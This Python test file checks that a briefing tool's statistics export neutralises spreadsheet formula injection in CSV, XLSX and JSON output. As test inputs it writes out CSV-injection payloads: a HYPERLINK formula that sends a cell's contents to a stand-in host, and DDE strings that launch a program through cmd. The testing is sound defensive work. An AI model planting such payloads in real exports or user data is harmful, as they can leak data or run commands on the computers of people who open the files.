"""Nothing from an article reaches a spreadsheet as a formula (``briefing stats``).

Every prefix a spreadsheet reads as the start of a formula (OWASP "CSV injection") is tried
as a 供稿单位, from an article and through the ``units:`` names of briefing.yaml, by the
command line. Unit names are whitespace-normalised when loaded, so a leading tab or carriage
return cannot come from a workspace; the writers are tried with them directly as well. The
CSV cells get a leading apostrophe; the XLSX cells are text cells, read back with openpyxl.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from briefing.cli import app
from tests.hostile.helpers import ISSUE_ID, SETTINGS, workspace

runner = CliRunner()

# (what the article says, what the alias map turns it into): the unit name that is counted
INJECTIONS = {
    "hyperlink": ("甲", '=HYPERLINK("http://x.example/?d="&B3,"详情")'),
    "at": ("乙", "@SUM(1+1)*cmd|' /C calc'!A0"),
    "plus": ("丙", "+cmd|' /C calc'!A0"),
    "minus": ("丁", "-2+3"),
    "full-width": ("庚", "＝1+1"),
    "tab": ("戊", "=1+1"),  # written "\t=1+1" in briefing.yaml: loaded without the tab
}
# every prefix, for the writers themselves
PREFIXED = [name for _, name in INJECTIONS.values()] + ["\t=1+1", "\r=1+1", "  =1+1", "\t1"]
PLAIN = "区建设局"


def _article(number: int, source: str) -> str:
    return f'---\ntitle: 第{number}篇\nsource: "{source}"\n---\n\n今年以来，街道把辖区划分为42个网格。\n'


@pytest.fixture
def root(tmp_path: Path) -> Path:
    written = {**{a: n for a, n in INJECTIONS.values()}, "戊": "\t=1+1"}
    aliases = "".join(f"  {json.dumps(name)}: [{alias}]\n" for alias, name in written.items())
    files: dict[str, str | bytes] = {"briefing.yaml": SETTINGS + "units:\n" + aliases}
    sources = [alias for alias, _ in INJECTIONS.values()] + [PLAIN, PLAIN]
    # straight from an article too: the value is a double-quoted YAML string
    sources.append('=HYPERLINK(\\"http://y.example\\",\\"点击\\")')
    for number, source in enumerate(sources, start=1):
        files[f"issues/{ISSUE_ID}/{number:02d}-a.md"] = _article(number, source)
    return workspace(tmp_path / "ws", files)


def _names() -> set[str]:
    return {name for _, name in INJECTIONS.values()} | {'=HYPERLINK("http://y.example","点击")'}


def _run(root: Path, *args: str | Path):  # type: ignore[no-untyped-def]
    result = runner.invoke(app, ["-C", str(root), "stats", *map(str, args)])
    assert result.exit_code == 0, result.output
    return result


FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝")


def _assert_inert_csv(text: str) -> None:
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert rows[0] == ["序号", "供稿单位", "采用", "批示", "获批示篇数"]
    names = {row[1] for row in rows[1:]}
    assert {n.removeprefix("'") for n in names} == _names() | {PLAIN}
    for row in rows[1:]:
        assert not row[1].lstrip(" ").startswith(FORMULA_START), row
        assert all(cell.isdigit() for cell in (row[0], *row[2:])), row  # counts stay numbers
    assert ["1", PLAIN, "2", "0", "0"] in rows  # a plain name is left alone


def test_csv_on_stdout_and_in_a_file_is_inert(root: Path, tmp_path: Path) -> None:
    _assert_inert_csv(_run(root, "--format", "csv").output)
    out = tmp_path / "采用.csv"
    _run(root, "--format", "csv", "--out", out)
    _assert_inert_csv(out.read_text(encoding="utf-8"))


def test_xlsx_text_cells_are_text(root: Path, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    out = tmp_path / "采用.xlsx"
    _run(root, "--format", "xlsx", "--out", out)
    sheet = load_workbook(out).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not any(cell.data_type == "f" for cell in cells)
    names = {sheet.cell(row, 2).value for row in range(4, 4 + len(_names()) + 1)}
    assert names == _names() | {PLAIN}  # written as they are: text cells are not formulas
    for cell in cells:
        expected = "n" if isinstance(cell.value, int) else "s"
        assert cell.data_type == expected, (cell.coordinate, cell.value)
    counts = [sheet.cell(row, 3).value for row in range(4, 4 + len(_names()) + 1)]
    assert all(isinstance(c, int) for c in counts) and sum(counts) == len(_names()) + 2
    # no hyperlink either: the unit names with http:// stay plain text
    assert not sheet._hyperlinks


def test_json_keeps_the_names_as_they_are(root: Path) -> None:
    document = json.loads(_run(root, "--format", "json").output)
    assert {row["name"] for row in document["rows"]} == _names() | {PLAIN}


def _stats_of(names: list[str]):  # type: ignore[no-untyped-def]
    from briefing.stats import GroupBy, Period, Stats, StatsRow

    rows = tuple(StatsRow(name, 1, 0, 0) for name in names)
    return Stats(GroupBy.source, Period(), False, rows, 1)


def test_the_csv_writer_neutralises_every_prefix() -> None:
    from briefing.stats import to_csv

    text = to_csv(_stats_of(PREFIXED))
    rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert [row[1] for row in rows] == ["'" + name for name in PREFIXED]


def test_the_xlsx_writer_keeps_every_prefix_as_text() -> None:
    from openpyxl import load_workbook

    from briefing.stats import to_xlsx

    sheet = load_workbook(io.BytesIO(to_xlsx(_stats_of(PREFIXED)))).active
    assert sheet is not None
    cells = [sheet.cell(row, 2) for row in range(4, 4 + len(PREFIXED))]
    # openpyxl leaves the OOXML escape of a carriage return (_x000D_) as it is
    values = [(str(c.value).replace("_x000D_", "\r"), c.data_type) for c in cells]
    assert values == [(n, "s") for n in PREFIXED]
    assert [sheet.cell(row, 3).data_type for row in range(4, 4 + len(PREFIXED))] == ["n"] * len(
        PREFIXED
    )
